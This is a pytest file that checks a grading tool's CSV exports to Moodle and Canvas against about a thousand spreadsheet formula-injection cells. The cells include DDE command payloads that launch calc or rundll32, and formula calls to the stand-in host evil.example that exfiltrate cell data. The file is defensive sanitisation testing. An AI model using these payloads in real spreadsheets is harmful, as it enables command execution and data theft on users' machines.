"""A thousand hostile cells through every table that we write or fill in.

What is read back is what was written, apostrophes aside; no cell of ours begins a formula, also
where a spreadsheet parts the lines at another sign than the comma (Excel in Spanish: semicolons).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest

from grader.export import canvas, moodle
from grader.export.marks import Mark
from grader.export.table import write_answers, write_table
from grader.locale import Translator
from grader.result import Student
from grader.scoring import Late
from tests.attacks.hostile_class import storable
from tests.attacks.payloads import PAYLOADS
from tests.export.test_platforms import ASSIGNMENT, mark
from tests.report.class_factory import summaries

FORMULA = tuple("=+-@\t\r\n＝＋－＠")
LEADS = (
    *FORMULA, "\t=", "\r\n=", "\n=", " =", "'=", '"=', '""=', ";=", ",=", "\t+", "x;=", "x,-",
    "x\t@", 'x;"=', 'x";=', 'x",＝', 'x"\r\n=', "\ufeff=", "=-+@",
)  # fmt: skip
BODIES = (
    "1+1", "cmd|'/c calc'!A1", '2+5+cmd|"/C notepad"!A0', 'HYPERLINK("https://evil.example","5,0")',
    'HYPERLINK("https://evil.example/?x="&A1;"ver")', 'IMPORTXML("https://evil.example","//a")',
    'IMPORTDATA("https://evil.example")', 'IMAGE("https://evil.example/i.png")',
    'WEBSERVICE("https://evil.example")', "SUM(1+1)*cmd|'/c calc'!A1", "DDE(\"cmd\";\"/c calc\")",
    "rundll32|'URL.dll,OpenURL https://evil.example'!A", "1,2;3\t4", 'x"y""z', "a\r\nb\rc\nd", '"',
    "'", "100/100", "00123", "1E5", "2025-05-02", "5,0", "",
)  # fmt: skip
CELLS = tuple(
    dict.fromkeys(
        map(
            storable,
            [
                *(lead + body for lead in LEADS for body in BODIES),
                *PAYLOADS.values(),
                *(lead + text for lead, text in zip(cycle(LEADS), PAYLOADS.values(), strict=False)),
            ],
        )
    )
)
ONE = {**summaries(4)[3], "possible": 70.0}
COUNT = len(CELLS)
assert COUNT >= 1_000


def read(data: bytes, delimiter: str = ",") -> list[list[str]]:
    """The table as a program reads it."""
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def same(one: str, other: str) -> bool:
    """Whether two texts are the same, apostrophes aside."""
    return one.replace("'", "") == other.replace("'", "")


def test_grades_csv(tmp_path: Path) -> None:
    """As a student's id and name, of one who handed in and of one who did not."""
    rows = [{**ONE, "student": cell, "name": cell} for cell in CELLS]
    write_table(tmp_path / "grades.csv", rows, [Student(cell, cell) for cell in CELLS])
    _, *table = read((tmp_path / "grades.csv").read_bytes())

    assert 2 * COUNT == len(table) and {10} == set(map(len, table))
    for cell, row in zip([*CELLS, *CELLS], table, strict=True):
        assert same(cell, row[0]) and same(cell, row[1])
        assert not row[0].startswith(FORMULA) and not row[1].startswith(FORMULA)


def test_a_name_begins_no_formula_however_lines_are_parted(tmp_path: Path) -> None:
    """A semicolon in a name begins a cell where the language's separator is one."""
    names = [re.sub("[\r\n]", " ", cell) for cell in CELLS]  # grader.notebook.shown leaves none
    rows = [{**ONE, "student": "x", "name": name} for name in names]
    write_table(tmp_path / "grades.csv", rows, [Student("x", name) for name in names])

    data = (tmp_path / "grades.csv").read_bytes()
    for delimiter in ",;\t":
        cells = [cell for row in read(data, delimiter) for cell in row]
        assert [] == [cell for cell in cells if cell.startswith(FORMULA)]


def test_answers_csv(tmp_path: Path) -> None:
    """As a student's id and name, and as a marker's comment."""
    question = ASSIGNMENT.rubric.questions["q1"]
    given = {"points": 1.0, "level": "Completo"}
    results = [
        {
            "student": {"id": cell, "name": cell},
            "answers": [
                {
                    "question": "q1",
                    "marks": {one.id: {**given, "comment": cell} for one in question.criteria},
                }
            ],
        }
        for cell in CELLS
    ]
    write_answers(tmp_path / "answers.csv", ASSIGNMENT, results)
    _, *table = read((tmp_path / "answers.csv").read_bytes())

    cells = [cell for cell in CELLS for _ in question.criteria]
    assert len(cells) == len(table)
    for cell, row in zip(cells, table, strict=True):
        for place in (0, 1, 7):
            assert same(cell, row[place]) and not row[place].startswith(FORMULA)


def written(table: Sequence[Sequence[str]], delimiter: str) -> bytes:
    """A file as a platform writes it: what needs no quotes has none."""
    stream = io.StringIO(newline="")
    csv.writer(stream, delimiter=delimiter).writerows(table)
    return stream.getvalue().encode("utf-8-sig")


def commented(number: int, cell: str, handles: dict[str, str]) -> Mark:
    """A student whose marker wrote a comment."""
    made = mark(f"s{number}", 4.2, handles, Late())
    criterion: dict[str, Any] = {"c": {"comment": cell}}
    made.result["answers"] = [{"question": "q1", "marks": criterion}]
    return made


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_moodles_worksheet(delimiter: str) -> None:
    """In the columns that are Moodle's, and in the comment; two cells of a row change."""
    words = moodle.WORDS[1]
    header = [
        words.identifier, words.name, "Grupo", words.grade, words.maximum, words.changeable,
        words.submitted, words.graded, words.comments,
    ]  # fmt: skip
    rows = [
        [f"Participante {n}", cell, cell, "", "5,00", "Sí", "-", "-", ""]
        for n, cell in enumerate(CELLS)
    ]
    marks = [
        commented(n, cell, {"moodle_id": str(n), "moodle_name": cell})
        for n, cell in enumerate(CELLS)
    ]
    filled = moodle.worksheet(written([header, *rows], delimiter), marks, ASSIGNMENT, "es")

    table = read(filled.data, delimiter)
    assert (COUNT, []) == (filled.count, filled.notices) and header == table[0]
    for before, after, cell in zip(rows, table[1:], CELLS, strict=True):
        assert [*before[:3], "4,20", *before[4:8]] == after[:8]
        said = Translator("es").number(58.5, 1)
        assert after[8].startswith(said) and (cell in after[8] or not cell)


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_canvas_gradebook(delimiter: str) -> None:
    """In the columns that are Canvas's; one cell of a row changes."""
    header = ["Student", "ID", "SIS Login ID", "Section", "Taller 3 (42)"]
    rows = [[cell, str(n), cell, cell, ""] for n, cell in enumerate(CELLS)]
    maximum = ["    Points Possible", "", "", "", "5"]
    marks = [mark(f"s{n}", 4.2, {"canvas_user": str(n)}) for n in range(COUNT)]
    filled = canvas.gradebook(
        written([header, maximum, *rows], delimiter), marks, ASSIGNMENT, "Taller 3"
    )

    assert (COUNT, []) == (filled.count, filled.notices)
    expected = [header, maximum, *([*row[:4], "4.20"] for row in rows)]
    assert expected == read(filled.data, delimiter)
